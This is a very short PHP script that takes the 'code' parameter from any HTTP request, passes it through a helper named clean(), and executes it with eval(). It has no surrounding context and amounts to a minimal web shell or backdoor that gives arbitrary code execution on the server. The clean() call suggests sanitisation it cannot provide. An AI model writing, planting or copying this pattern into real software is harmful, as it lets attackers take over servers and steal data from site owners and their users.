<?php
$f = $helper->clean($_REQUEST['code']);
eval($f);
